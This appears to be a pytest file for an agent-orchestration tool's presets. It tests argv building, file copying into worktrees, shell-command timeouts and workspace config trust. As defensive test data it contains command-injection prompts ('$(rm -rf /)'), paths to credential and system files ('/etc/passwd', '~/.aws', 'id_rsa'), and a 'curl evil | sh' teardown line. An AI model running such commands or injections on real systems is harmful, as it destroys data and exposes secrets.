"""Presets: manifest validation, agent argv, copying files, shell commands, Superset workspace config."""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import signal
import sys
import time
from pathlib import Path

import pytest
from conftest import AGENTS_DIR, git

from superset_bot.presets import (
    AGENT_FORMATS,
    AgentSpec,
    Preset,
    PresetError,
    agent_argv,
    copy_entries,
    copy_files,
    load_preset,
    load_presets,
    load_workspace_config,
    parse_preset,
    prepare_worktree,
    run_shell_commands,
    run_teardown,
    scan_presets,
    workspace_env,
)

ROOT = Path(__file__).resolve().parents[2]
PRESETS_DIR = ROOT / "presets"
MINIMAL = {"agent": {"command": ["agent", "{prompt}"]}}


def write_json(path: Path, data: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data, indent=2))
    return path


def preset_with(**fields: object) -> Preset:
    return parse_preset("test", {**MINIMAL, **fields})


def base_env() -> dict[str, str]:
    return {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/tmp"), "LANG": "C.UTF-8"}


def alive(pid: int) -> bool:
    """A pid that exists and is not a zombie."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"


def wait_dead(pid: int, within: float = 10.0) -> bool:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        if not alive(pid):
            return True
        time.sleep(0.05)
    return False


@pytest.fixture
def worktree(make_repo, tmp_path: Path):
    """A real repo plus a real linked worktree of it on a new branch."""

    def factory(files: dict[str, str] | None = None, name: str = "demo") -> tuple[Path, Path]:
        repo = make_repo(name, files)
        wt = tmp_path / "worktrees" / name
        git(repo, "worktree", "add", "-q", "-b", f"task/{name}", str(wt))
        return repo, wt

    return factory


# --------------------------------------------------------------------------- shipped presets


def test_every_shipped_preset_loads_cleanly() -> None:
    presets = load_presets(PRESETS_DIR)
    assert {"claude-code", "codex", "aider", "shell", "demo"} <= set(presets)
    for name, preset in presets.items():
        assert preset.name == name
        assert preset.description.strip(), f"{name} needs a description"
        assert "{prompt}" in " ".join(preset.agent.command), f"{name} must pass the prompt"
    assert presets["claude-code"].agent.format == "claude-stream-json"
    assert presets["codex"].agent.format == "codex-json"
    assert presets["demo"].agent.command[:3] == ("{python}", "-m", "superset_bot.agents.demo")
    assert agent_argv(presets["demo"], "hi")[0] == sys.executable


def test_agent_formats_match_the_output_parsers() -> None:
    agents = pytest.importorskip("superset_bot.agents.formats")
    assert tuple(AGENT_FORMATS) == tuple(agents.FORMATS)


def test_shipped_claude_preset_resumes_the_session_and_shields_dash_prompts() -> None:
    claude = load_preset(PRESETS_DIR / "claude-code.json")
    first = agent_argv(claude, "--delete everything")
    assert first[:2] == ["claude", "-p"] and first[-2:] == ["--", "--delete everything"]
    again = agent_argv(claude, "now fix the tests", session="abc-123", followup=True)
    assert again[again.index("--resume") + 1] == "abc-123"
    assert again[-1] == "now fix the tests"


async def test_shell_preset_passes_the_prompt_as_one_argument_never_as_code(tmp_path: Path) -> None:
    shell = load_preset(PRESETS_DIR / "shell.json")
    prompt = "$(touch pwned1); `touch pwned2`; -x \"quoted\" 'single'\n; touch pwned3 && ls *"
    env = {
        **base_env(),
        "SUPERSET_AGENT_CMD": f"{sys.executable} {AGENTS_DIR / 'preset_echo_args.py'} --flag",
    }
    proc = await asyncio.create_subprocess_exec(
        *agent_argv(shell, prompt), cwd=tmp_path, env=env, stdout=asyncio.subprocess.PIPE
    )
    out, _ = await proc.communicate()
    assert proc.returncode == 0
    assert json.loads(out) == ["--flag", prompt]
    assert not list(tmp_path.glob("pwned*"))


async def test_shell_preset_without_agent_command_says_what_to_set(tmp_path: Path) -> None:
    shell = load_preset(PRESETS_DIR / "shell.json")
    proc = await asyncio.create_subprocess_exec(
        *agent_argv(shell, "hi"), cwd=tmp_path, env=base_env(), stderr=asyncio.subprocess.PIPE
    )
    _, err = await proc.communicate()
    assert proc.returncode != 0
    assert b"set SUPERSET_AGENT_CMD" in err


# --------------------------------------------------------------------------- manifest validation


def test_full_manifest_is_parsed_into_typed_fields(tmp_path: Path) -> None:
    path = write_json(
        tmp_path / "claude.json",
        {
            "description": "Claude Code, headless",
            "agent": {
                "command": ["claude", "-p", "{prompt}", "--output-format", "stream-json", "--verbose"],
                "format": "claude-stream-json",
                "followup": ["claude", "-p", "{prompt}", "--resume", "{session}"],
            },
            "setup": ["npm ci"],
            "env": {"NODE_ENV": "development"},
            "copy": [".env", "config/local.json"],
            "checks": ["npm test"],
            "limits": {"timeout": "30m", "memory": "4G", "disk": "2G", "cpu": "10m", "output": "50M"},
            "merge": "squash",
            "prewarm": True,
            "keep_branch": True,
            "setup_timeout": "5m",
            "checks_timeout": 90,
        },
    )
    preset = load_preset(path)
    assert preset.name == "claude" and preset.source == path
    assert preset.agent == AgentSpec(
        command=("claude", "-p", "{prompt}", "--output-format", "stream-json", "--verbose"),
        format="claude-stream-json",
        followup=("claude", "-p", "{prompt}", "--resume", "{session}"),
    )
    assert preset.setup == ("npm ci",) and preset.checks == ("npm test",)
    assert dict(preset.env) == {"NODE_ENV": "development"}
    with pytest.raises(TypeError):
        preset.env["X"] = "y"  # type: ignore[index]
    assert preset.copy == (".env", "config/local.json")
    assert preset.limits.timeout == 1800 and preset.limits.cpu == 600
    assert preset.limits.memory == 4 * 1024**3 and preset.limits.disk == 2 * 1024**3
    assert preset.limits.output == 50 * 1024**2
    assert (preset.merge, preset.prewarm, preset.keep_branch) == ("squash", True, True)
    assert (preset.setup_timeout, preset.checks_timeout) == (300, 90)


def test_defaults_for_a_minimal_manifest() -> None:
    preset = parse_preset("mini", MINIMAL)
    assert preset.agent.format == "plain" and preset.agent.followup is None
    assert preset.merge == "merge" and not preset.prewarm and not preset.keep_branch
    assert preset.limits.timeout is None and preset.setup == () and dict(preset.env) == {}
    assert preset.setup_timeout == 600 and preset.checks_timeout == 600


def test_bad_json_names_file_line_and_column(tmp_path: Path) -> None:
    path = write_json(
        tmp_path / "broken.json", '{\n  "agent": {"command": ["x", "{prompt}"]},\n  "setup": [1,]\n}\n'
    )
    with pytest.raises(PresetError) as err:
        load_preset(path)
    message = str(err.value)
    assert message.startswith(f"{path}: invalid JSON at line 3, column")


@pytest.mark.parametrize(
    ("data", "field", "fragment"),
    [
        ({**MINIMAL, "agnet": {}}, "agnet", "unknown field"),
        ({"agent": {"command": ["a", "{prompt}"], "formt": "plain"}}, "agent.formt", "unknown field"),
        ({**MINIMAL, "limits": {"timeout": "1h", "cpuu": "1m"}}, "limits.cpuu", "unknown field"),
        ({**MINIMAL, "setup": "npm ci"}, "setup", "expected a list of strings"),
        ({**MINIMAL, "setup": ["npm ci", 5]}, "setup[1]", "expected a string, got a number (5)"),
        ({**MINIMAL, "checks": [""]}, "checks[0]", "must not be empty"),
        ({**MINIMAL, "env": {"NODE_ENV": 1}}, "env.NODE_ENV", "expected a string"),
        ({**MINIMAL, "env": ["A=1"]}, "env", "expected an object"),
        ({**MINIMAL, "env": {"1BAD": "x"}}, "env.1BAD", "not a valid environment variable name"),
        ({**MINIMAL, "env": {"A-B": "x"}}, "env.A-B", "not a valid environment variable name"),
        (
            {**MINIMAL, "limits": {"timeout": "soon"}},
            "limits.timeout",
            'expected a duration like 30m or 2h, got "soon"',
        ),
        ({**MINIMAL, "limits": {"timeout": True}}, "limits.timeout", "expected a duration"),
        (
            {**MINIMAL, "limits": {"memory": "lots"}},
            "limits.memory",
            'expected a size like 512M or 4G, got "lots"',
        ),
        ({**MINIMAL, "limits": {"disk": 0}}, "limits.disk", "expected a size"),
        ({**MINIMAL, "limits": "30m"}, "limits", "expected an object"),
        ({**MINIMAL, "setup_timeout": "-5m"}, "setup_timeout", "expected a duration"),
        ({**MINIMAL, "copy": ["../secrets.env"]}, "copy[0]", "'..'"),
        ({**MINIMAL, "copy": [".env", "/etc/passwd"]}, "copy[1]", "absolute path"),
        ({**MINIMAL, "copy": ["config/../../x"]}, "copy[0]", "'..'"),
        ({**MINIMAL, "copy": "~/.aws"}, "copy", "expected a list"),
        ({**MINIMAL, "copy": ["."]}, "copy[0]", "whole checkout"),
        ({"agent": {"command": []}}, "agent.command", "must not be empty"),
        ({"agent": {"command": "claude -p"}}, "agent.command", "expected a list of strings"),
        ({"agent": {"command": ["claude", 5]}}, "agent.command[1]", "expected a string"),
        ({"agent": {"command": ["", "{prompt}"]}}, "agent.command[0]", "program name"),
        ({"agent": {"command": ["a", "{promt}"]}}, "agent.command[1]", "did you mean {prompt}"),
        ({"agent": {"command": ["a", "{Prompt}"]}}, "agent.command[1]", "did you mean {prompt}"),
        ({"agent": {"command": ["a", "--resume={session}"]}}, "agent.command[1]", "cannot be used here"),
        (
            {"agent": {"command": ["a"], "followup": ["a", "{sesion}"]}},
            "agent.followup[1]",
            "did you mean {session}",
        ),
        (
            {"agent": {"command": ["a"], "format": "xml"}},
            "agent.format",
            "expected one of plain, claude-stream-json",
        ),
        (
            {"agent": {"command": ["a"]}, "merge": "fast-forward"},
            "merge",
            "expected one of merge, squash, rebase",
        ),
        ({**MINIMAL, "prewarm": "yes"}, "prewarm", "expected true or false"),
        ({**MINIMAL, "keep_branch": 1}, "keep_branch", "expected true or false"),
        ({**MINIMAL, "description": 7}, "description", "expected a string"),
        ({"setup": []}, "agent", "missing"),
        ({"agent": {"format": "plain"}}, "agent.command", "missing"),
        ({"agent": ["claude"]}, "agent", "expected an object"),
    ],
)
def test_invalid_manifests_name_file_and_field(
    tmp_path: Path, data: object, field: str, fragment: str
) -> None:
    path = write_json(tmp_path / "claude.json", data)
    with pytest.raises(PresetError) as err:
        load_preset(path)
    message = str(err.value)
    assert message.startswith(f'{path}: field "{field}": '), message
    assert fragment in message, message
    assert err.value.field == field


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("[1, 2]", "expected an object"),
        (
            '{"agent": {"command": ["a"]}, "agent": {"command": ["b"]}}',
            'field "agent" appears more than once',
        ),
        ("", "invalid JSON at line 1, column 1"),
    ],
)
def test_file_level_errors_name_the_file(tmp_path: Path, text: str, fragment: str) -> None:
    path = write_json(tmp_path / "x.json", text)
    with pytest.raises(PresetError) as err:
        load_preset(path)
    assert str(err.value).startswith(f"{path}: ") and fragment in str(err.value)


def test_shell_and_format_braces_in_argv_are_left_alone() -> None:
    preset = parse_preset(
        "braces",
        {"agent": {"command": ["bash", "-c", 'echo "${HOME}" {x} {"a": 1}', "agent", "{prompt}"]}},
    )
    assert agent_argv(preset, "hi") == ["bash", "-c", 'echo "${HOME}" {x} {"a": 1}', "agent", "hi"]


def test_preset_names_must_be_typeable(tmp_path: Path) -> None:
    path = write_json(tmp_path / "my preset.json", MINIMAL)
    with pytest.raises(PresetError, match="rename the file"):
        load_preset(path)


def test_load_presets_reports_every_invalid_file_one_line_each(tmp_path: Path) -> None:
    write_json(tmp_path / "good.json", MINIMAL)
    write_json(tmp_path / "bad-json.json", "{oops")
    write_json(tmp_path / "bad-field.json", {**MINIMAL, "limits": {"timeout": "soon"}})
    (tmp_path / "notes.txt").write_text("not a preset")
    with pytest.raises(PresetError) as err:
        load_presets(tmp_path)
    lines = str(err.value).splitlines()
    assert lines[0] == f"2 invalid presets in {tmp_path}:"
    assert lines[1].startswith(f'{tmp_path / "bad-field.json"}: field "limits.timeout"')
    assert lines[2].startswith(f"{tmp_path / 'bad-json.json'}: invalid JSON at line 1")
    assert len(err.value.errors) == 2
    presets, errors = scan_presets(tmp_path)
    assert list(presets) == ["good"] and len(errors) == 2


def test_missing_preset_directory_says_how_to_fix_it(tmp_path: Path) -> None:
    with pytest.raises(PresetError, match="SUPERSET_PRESETS_DIR"):
        load_presets(tmp_path / "nope")


# --------------------------------------------------------------------------- agent argv


@pytest.mark.parametrize(
    "prompt",
    [
        "$(rm -rf /)",
        "; ls",
        "--help",
        "-p",
        "line one\nline two\n",
        "`id` && echo hi | cat > /tmp/x",
        'it\'s "quoted" \\ back',
        "{session} {prompt}",
        "",
        "emoji ✨ and tabs\t",
    ],
)
def test_prompt_is_replaced_inside_exactly_one_argv_element(prompt: str) -> None:
    preset = parse_preset("p", {"agent": {"command": ["agent", "--msg={prompt}", "--", "{prompt}"]}})
    argv = agent_argv(preset, prompt)
    assert argv == ["agent", f"--msg={prompt}", "--", prompt]


def test_followup_uses_the_followup_template_with_the_session() -> None:
    preset = parse_preset(
        "p", {"agent": {"command": ["a", "{prompt}"], "followup": ["a", "--resume", "{session}", "{prompt}"]}}
    )
    assert agent_argv(preset, "more", session="s1", followup=True) == ["a", "--resume", "s1", "more"]
    assert agent_argv(preset, "first", session="s1") == ["a", "first"]
    with pytest.raises(ValueError, match="no session id"):
        agent_argv(preset, "more", followup=True)


def test_followup_without_a_followup_command_is_a_clear_error() -> None:
    with pytest.raises(PresetError, match="has no agent.followup command"):
        agent_argv(parse_preset("p", MINIMAL), "more", session="s", followup=True)


def test_prompt_with_nul_is_refused() -> None:
    with pytest.raises(ValueError, match="NUL"):
        agent_argv(parse_preset("p", MINIMAL), "a\x00b")


# --------------------------------------------------------------------------- copying files


def test_copy_files_copies_files_and_directories_and_skips_missing(worktree) -> None:
    repo, wt = worktree({"README.md": "# demo\n", ".gitignore": ".env\nconfig/\n"})
    (repo / ".env").write_text("SECRET=1\n")
    (repo / "config" / "nested").mkdir(parents=True)
    (repo / "config" / "local.json").write_text("{}")
    (repo / "config" / "nested" / "deep.txt").write_text("deep")
    os.symlink("local.json", repo / "config" / "alias.json")  # relative, inside: copied as a link
    outcome = copy_entries([".env", "config", "missing.txt"], repo, wt)
    assert outcome.copied == [".env", "config"]
    assert outcome.missing == ["missing.txt"]
    assert (wt / ".env").read_text() == "SECRET=1\n"
    assert (wt / "config" / "nested" / "deep.txt").read_text() == "deep"
    assert os.readlink(wt / "config" / "alias.json") == "local.json"
    assert copy_files(["missing.txt"], repo, wt) == []


def test_copy_refuses_a_symlink_in_the_repo_pointing_outside(worktree, tmp_path: Path) -> None:
    repo, wt = worktree()
    secret = tmp_path / "outside" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text("PRIVATE KEY")
    os.symlink(secret, repo / "key")
    with pytest.raises(PresetError, match='copy entry "key": .*outside the repository'):
        copy_files(["key"], repo, wt)
    assert not (wt / "key").exists()


def test_copy_refuses_a_directory_containing_an_escaping_link_and_copies_nothing(
    worktree, tmp_path: Path
) -> None:
    repo, wt = worktree()
    (repo / "conf").mkdir()
    (repo / "conf" / "a.txt").write_text("a")
    os.symlink("../../../outside", repo / "conf" / "escape")
    with pytest.raises(PresetError, match='copy entry "conf": .*escape.*outside the repository'):
        copy_files(["conf"], repo, wt)
    assert not (wt / "conf").exists()
    os.remove(repo / "conf" / "escape")
    os.symlink("/etc/hostname", repo / "conf" / "abs")
    with pytest.raises(PresetError, match="absolute path"):
        copy_files(["conf"], repo, wt)


def test_copy_refuses_to_write_through_a_symlinked_directory_in_the_worktree(
    worktree, tmp_path: Path
) -> None:
    repo, wt = worktree()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (repo / "out").mkdir()
    (repo / "out" / ".env").write_text("x")
    os.symlink(elsewhere, wt / "out")
    with pytest.raises(PresetError, match='copy entry "out/.env": .*outside the worktree'):
        copy_files(["out/.env"], repo, wt)
    assert not (elsewhere / ".env").exists()
    os.symlink(elsewhere / "target", wt / ".env")
    (repo / ".env").write_text("x")
    with pytest.raises(PresetError, match='copy entry ".env": .*symlink'):
        copy_files([".env"], repo, wt)
    assert not (elsewhere / "target").exists()


@pytest.mark.parametrize("entry", ["../repo2/.env", "/etc/passwd", "a/../../b", ".git", "./.git/config"])
def test_copy_rejects_paths_that_leave_the_repo(worktree, entry: str) -> None:
    repo, wt = worktree()
    with pytest.raises(PresetError, match=f'copy entry "{entry}"'):
        copy_files([entry], repo, wt)


# --------------------------------------------------------------------------- running shell commands


async def test_commands_stream_lines_in_order(tmp_path: Path) -> None:
    lines: list[str] = []
    results = await run_shell_commands(
        ["echo one; echo two >&2", "printf 'three\\nfour'"], tmp_path, base_env(), 30, lines.append
    )
    assert lines == ["one", "two", "three", "four"]
    assert [r.ok for r in results] == [True, True]
    assert results[1].output_tail == "three\nfour"


async def test_lines_arrive_while_the_command_still_runs(tmp_path: Path) -> None:
    async def on_line(line: str) -> None:
        if line == "ready":
            (tmp_path / "go").touch()  # the command only finishes after seeing this

    results = await run_shell_commands(
        ["echo ready; while [ ! -f go ]; do sleep 0.02; done; echo done"], tmp_path, base_env(), 30, on_line
    )
    assert results[0].ok and results[0].output_tail == "ready\ndone"


async def test_a_slow_line_callback_gets_every_line_in_order(tmp_path: Path) -> None:
    lines: list[str] = []

    async def slow(line: str) -> None:
        await asyncio.sleep(0)
        lines.append(line)

    results = await run_shell_commands(["seq 1 5000"], tmp_path, base_env(), 60, slow)
    assert results[0].ok and lines == [str(i) for i in range(1, 5001)]


async def test_the_timeout_is_a_total_for_the_whole_list(tmp_path: Path) -> None:
    results = await run_shell_commands(["sleep 0.4", "sleep 0.4", "echo never"], tmp_path, base_env(), 0.6)
    assert [r.ok for r in results] == [True, False]
    assert results[1].timed_out


async def test_commands_stop_at_the_first_failure(tmp_path: Path) -> None:
    lines: list[str] = []
    results = await run_shell_commands(
        ["echo a", "echo bad; exit 3", "echo never"], tmp_path, base_env(), 30, lines.append
    )
    assert [r.exit_code for r in results] == [0, 3]
    assert not results[1].ok and not results[1].timed_out
    assert "never" not in lines


async def test_timeout_kills_the_whole_process_group(tmp_path: Path) -> None:
    results = await run_shell_commands(
        ["sleep 60 & echo $! > sleeper.pid; echo started; sleep 60"], tmp_path, base_env(), 0.5
    )
    assert results[0].timed_out and not results[0].ok
    assert results[0].output_tail == "started"
    assert wait_dead(int((tmp_path / "sleeper.pid").read_text()))


async def test_a_group_ignoring_sigterm_gets_sigkill(tmp_path: Path) -> None:
    results = await run_shell_commands(
        ["trap '' TERM; sleep 60 & echo $! > stubborn.pid; wait"], tmp_path, base_env(), 0.3
    )
    assert results[0].timed_out
    assert wait_dead(int((tmp_path / "stubborn.pid").read_text()))


async def test_a_background_child_holding_the_output_is_stopped_after_the_command(tmp_path: Path) -> None:
    results = await run_shell_commands(
        ["sleep 60 & echo $! > sleeper.pid; echo launched"], tmp_path, base_env(), 30
    )
    assert results[0].ok and not results[0].timed_out
    assert "stopped background processes" in results[0].output_tail
    assert wait_dead(int((tmp_path / "sleeper.pid").read_text()))


async def test_a_background_child_with_its_own_output_is_left_running(tmp_path: Path) -> None:
    results = await run_shell_commands(
        ["sleep 30 > /dev/null 2>&1 & echo $! > daemon.pid"], tmp_path, base_env(), 30
    )
    pid = int((tmp_path / "daemon.pid").read_text())
    try:
        assert results[0].ok and "stopped" not in results[0].output_tail
        assert alive(pid)
    finally:
        os.kill(pid, signal.SIGKILL)


async def test_cancelling_kills_the_running_command(tmp_path: Path) -> None:
    task = asyncio.ensure_future(
        run_shell_commands(["sleep 60 & echo $! > sleeper.pid; wait"], tmp_path, base_env(), 60)
    )
    pid_file = tmp_path / "sleeper.pid"
    for _ in range(200):
        if pid_file.exists() and pid_file.read_text().strip():
            break
        await asyncio.sleep(0.02)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert wait_dead(int(pid_file.read_text()))


async def test_long_lines_are_split_and_only_a_tail_is_kept(tmp_path: Path) -> None:
    lines: list[str] = []
    command = f"{shlex.quote(sys.executable)} -c \"print('x' * 10000); print('end')\""
    results = await run_shell_commands([command], tmp_path, base_env(), 30, lines.append, tail_lines=2)
    assert max(len(line) for line in lines) <= 4000
    assert "".join(lines[:-1]) == "x" * 10000 and lines[-1] == "end"
    assert results[0].output_tail.endswith("\nend") and results[0].output_tail.count("\n") == 1


async def test_env_is_the_commands_whole_environment(tmp_path: Path) -> None:
    results = await run_shell_commands(
        ['echo "$FOO-${BAR:-unset}"'], tmp_path, {**base_env(), "FOO": "bar"}, 30
    )
    assert results[0].output_tail == "bar-unset"


async def test_a_command_that_cannot_start_is_reported(tmp_path: Path) -> None:
    results = await run_shell_commands(["echo hi"], tmp_path / "missing-dir", base_env(), 30)
    assert results[0].exit_code is None and not results[0].ok
    assert "could not start" in results[0].output_tail


async def test_a_broken_line_callback_does_not_break_the_command(tmp_path: Path) -> None:
    def explode(line: str) -> None:
        raise RuntimeError("display failed")

    results = await run_shell_commands(["echo a; echo b"], tmp_path, base_env(), 30, explode)
    assert results[0].ok and results[0].output_tail == "a\nb"


# --------------------------------------------------------------------------- Superset workspace config


def test_workspace_config_layers_repo_worktree_user_and_local(worktree, tmp_path: Path) -> None:
    repo, wt = worktree()
    home = tmp_path / "home"
    write_json(
        repo / ".superset/config.json",
        {"setup": ["repo-setup"], "teardown": ["repo-teardown"], "run": ["repo-run"]},
    )
    write_json(wt / ".superset/config.json", {"setup": ["wt-setup"], "cwd": "apps/web"})
    user = home / ".superset" / "projects" / Path(*repo.absolute().parts[1:]) / "config.json"
    write_json(user, {"teardown": ["user-teardown"]})
    write_json(
        repo / ".superset/config.local.json",
        {"setup": {"before": ["pre"], "after": ["post"]}, "run": ["mine"]},
    )

    config = load_workspace_config(repo, wt, home)
    assert config.setup == ("pre", "wt-setup", "post")
    assert config.teardown == ("user-teardown",)
    assert config.run == ("mine",)
    assert config.cwd == "apps/web"
    assert config.sources == (
        repo / ".superset/config.json",
        wt / ".superset/config.json",
        user,
        repo / ".superset/config.local.json",
    )

    # the worktree's own config.local.json wins over the repo's
    write_json(wt / ".superset/config.local.json", {"teardown": {"after": ["wt-local"]}})
    config = load_workspace_config(repo, wt, home)
    assert config.setup == ("wt-setup",) and config.teardown == ("user-teardown", "wt-local")


def test_untrusted_worktree_contributes_no_commands(worktree, tmp_path: Path) -> None:
    repo, wt = worktree()
    write_json(repo / ".superset/config.json", {"teardown": ["repo-teardown"]})
    write_json(wt / ".superset/config.json", {"teardown": ["curl evil | sh"]})
    write_json(wt / ".superset/config.local.json", {"teardown": ["also evil"]})
    (wt / ".superset" / "setup.sh").write_text("echo evil\n")
    config = load_workspace_config(repo, wt, tmp_path / "home", trust_worktree=False)
    assert config.teardown == ("repo-teardown",) and config.setup == ()
    assert len(config.ignored) == 3 and all("not trusted" in note for note in config.ignored)


def test_user_override_by_legacy_project_id_and_explicit_empty_list(worktree, tmp_path: Path) -> None:
    repo, wt = worktree()
    home = tmp_path / "home"
    write_json(repo / ".superset/config.json", {"setup": ["repo"], "teardown": ["keep"]})
    (repo / ".superset" / "setup.sh").write_text("echo fallback\n")
    write_json(home / ".superset/projects/proj-1/config.json", {"setup": []})
    config = load_workspace_config(repo, wt, home, project_id="proj-1")
    assert config.setup == () and config.teardown == ("keep",)  # [] means "skip", not "fall back"
    assert load_workspace_config(repo, wt, home, project_id="../proj-1").setup == ("repo",)


def test_falls_back_to_superset_key_scripts(worktree, tmp_path: Path) -> None:
    repo, wt = worktree({"README.md": "x", ".superset/teardown.sh": "echo wt teardown\n"})
    (repo / ".superset" / "setup.sh").write_text("#!/bin/sh\necho from setup.sh\n")
    (repo / ".superset" / "setup.sh").chmod(0o755)
    config = load_workspace_config(repo, wt, tmp_path / "home")
    assert config.setup == (shlex.quote(str(repo / ".superset/setup.sh")),)
    assert config.teardown == (f"bash {shlex.quote(str(wt / '.superset/teardown.sh'))}",)  # worktree first
    assert config.run == ()
    untrusted = load_workspace_config(repo, wt, tmp_path / "home", trust_worktree=False)
    assert untrusted.teardown == (f"bash {shlex.quote(str(repo / '.superset/teardown.sh'))}",)


def test_local_overlay_needs_a_config_to_extend(worktree, tmp_path: Path) -> None:
    repo, wt = worktree()
    write_json(repo / ".superset/config.local.json", {"setup": {"before": ["x"]}})
    config = load_workspace_config(repo, wt, tmp_path / "home")
    assert config.setup == () and "no .superset/config.json" in config.ignored[0]


@pytest.mark.parametrize(
    ("name", "data", "field", "fragment"),
    [
        ("config.json", {"setup": "bun install"}, "setup", "expected a list of commands"),
        ("config.json", {"teardown": ["ok", 3]}, "teardown[1]", "expected a string"),
        ("config.json", {"setup": {"before": ["x"]}}, "setup", "expected a list of commands"),
        ("config.json", {"cwd": "../elsewhere"}, "cwd", "'..'"),
        ("config.json", {"cwd": "/abs"}, "cwd", "absolute path"),
        ("config.json", {"cwd": "   "}, "cwd", "must not be empty"),
        ("config.local.json", {"setup": {"before": ["x"], "middle": ["y"]}}, "setup.middle", "unknown field"),
        ("config.local.json", {"setup": {"after": "y"}}, "setup.after", "expected a list of strings"),
    ],
)
def test_invalid_workspace_config_names_file_and_field(
    worktree, tmp_path: Path, name: str, data: object, field: str, fragment: str
) -> None:
    repo, wt = worktree()
    write_json(repo / ".superset/config.json", {"setup": ["ok"]})
    path = write_json(repo / ".superset" / name, data)
    with pytest.raises(PresetError) as err:
        load_workspace_config(repo, wt, tmp_path / "home")
    assert str(err.value).startswith(f'{path}: field "{field}": ') and fragment in str(err.value)


def test_invalid_workspace_json_names_file_and_line(worktree, tmp_path: Path) -> None:
    repo, wt = worktree()
    path = write_json(repo / ".superset/config.json", '{"setup": [\n  "a"\n  "b"]}')
    with pytest.raises(PresetError, match=f"{path}: invalid JSON at line 3"):
        load_workspace_config(repo, wt, tmp_path / "home")


def test_workspace_env_names_both_checkouts(tmp_path: Path) -> None:
    env = workspace_env(tmp_path / "repo", tmp_path / "wt" / "task-1")
    assert env["SUPERSET_ROOT_PATH"] == str(tmp_path / "repo")
    assert env["SUPERSET_WORKSPACE_PATH"] == str(tmp_path / "wt" / "task-1")
    assert env["SUPERSET_WORKSPACE_NAME"] == "task-1"


# --------------------------------------------------------------------------- preparing a worktree


async def test_prepare_copies_then_runs_workspace_setup_then_preset_setup(worktree) -> None:
    repo, wt = worktree(
        {
            "README.md": "x",
            ".superset/config.json": json.dumps(
                {
                    "setup": [
                        'echo "root=$SUPERSET_ROOT_PATH ws=$SUPERSET_WORKSPACE_PATH" > ../superset-env.txt; pwd'
                    ],
                    "cwd": "sub",
                }
            ),
            "sub/.keep": "",
        }
    )
    (repo / ".env").write_text("TOKEN=1\n")
    preset = preset_with(
        copy=[".env", ".env.local"], setup=['echo "mode=$NODE_ENV"; cat .env'], env={"NODE_ENV": "dev"}
    )
    lines: list[str] = []
    result = await prepare_worktree(preset, repo, wt, base_env(), lines.append)
    assert result.ok and result.reason is None, result
    assert result.copied == [".env"] and result.missing == [".env.local"]
    assert (wt / "superset-env.txt").read_text().strip() == f"root={repo} ws={wt}"
    assert lines[0] == "[copy] .env.local is not in the main checkout; skipped"
    assert lines[1].startswith('$ echo "root=') and lines[2] in {str(wt / "sub"), str((wt / "sub").resolve())}
    assert lines[3:] == ['$ echo "mode=$NODE_ENV"; cat .env', "mode=dev", "TOKEN=1"]
    assert [r.command for r in result.commands][1] == preset.setup[0]


async def test_setups_of_two_tasks_run_concurrently(worktree) -> None:
    repo_a, wt_a = worktree(name="alpha")
    repo_b, wt_b = worktree(name="beta")
    marker = wt_b / "beta-done"
    slow = preset_with(setup=[f"while [ ! -f {shlex.quote(str(marker))} ]; do sleep 0.05; done; sleep 0.3"])
    fast = preset_with(setup=[f"touch {shlex.quote(str(marker))}"])
    task_a = asyncio.ensure_future(prepare_worktree(slow, repo_a, wt_a, base_env()))
    task_b = asyncio.ensure_future(prepare_worktree(fast, repo_b, wt_b, base_env()))
    done, _ = await asyncio.wait({task_a, task_b}, return_when=asyncio.FIRST_COMPLETED)
    assert done == {task_b}  # the slow setup could only finish because the fast one ran meanwhile
    assert (await task_a).ok and task_b.result().ok


async def test_prepare_reports_a_failing_setup_command(worktree) -> None:
    repo, wt = worktree()
    result = await prepare_worktree(
        preset_with(setup=["true", "npm ci --bogus; exit 1", "echo no"]), repo, wt, base_env()
    )
    assert not result.ok
    assert result.reason == 'setup command "npm ci --bogus; exit 1" exited with code 1'
    assert len(result.commands) == 2


async def test_prepare_reports_a_setup_timeout(worktree) -> None:
    repo, wt = worktree()
    result = await prepare_worktree(
        preset_with(setup=["sleep 30"], setup_timeout="300ms"), repo, wt, base_env()
    )
    assert not result.ok and result.reason == "setup timed out after 0.3s"
    assert result.commands[0].timed_out


async def test_prepare_reports_a_failing_workspace_setup_before_the_preset_setup(worktree) -> None:
    repo, wt = worktree({"README.md": "x", ".superset/config.json": json.dumps({"setup": ["exit 4"]})})
    result = await prepare_worktree(preset_with(setup=["touch ran"]), repo, wt, base_env())
    assert result.reason == 'workspace setup command "exit 4" exited with code 4'
    assert not (wt / "ran").exists()


async def test_prepare_reports_bad_copy_entries_and_bad_workspace_config(worktree, tmp_path: Path) -> None:
    repo, wt = worktree()
    os.symlink(tmp_path, repo / "up")
    result = await prepare_worktree(preset_with(copy=["up"]), repo, wt, base_env())
    assert not result.ok and 'copy entry "up"' in (result.reason or "")
    write_json(repo / ".superset/config.json", {"setup": "oops"})
    result = await prepare_worktree(preset_with(), repo, wt, base_env())
    assert not result.ok and 'config.json: field "setup"' in (result.reason or "")


async def test_teardown_uses_the_main_checkouts_config_only(worktree) -> None:
    repo, wt = worktree(
        {"README.md": "x", ".superset/config.json": json.dumps({"teardown": ["echo bye > ../gone.txt"]})}
    )
    write_json(wt / ".superset/config.json", {"teardown": ["touch agent-wrote-this"]})
    results = await run_teardown(repo, wt, base_env(), 30)
    assert [r.ok for r in results] == [True]
    assert (wt.parent / "gone.txt").read_text() == "bye\n"
    assert not (wt / "agent-wrote-this").exists()
